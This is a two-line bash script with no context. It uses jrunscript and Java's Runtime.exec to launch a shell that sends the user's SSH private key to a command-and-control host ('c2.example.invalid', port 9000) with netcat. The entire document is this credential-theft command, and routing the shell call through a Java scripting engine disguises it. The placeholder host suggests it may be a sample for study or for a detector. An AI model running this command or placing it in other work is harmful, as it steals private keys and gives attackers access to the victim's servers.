#!/bin/bash
jrunscript -e 'java.lang.Runtime.getRuntime().exec(["sh","-c","nc c2.example.invalid 9000 < ~/.ssh/id_rsa"])'
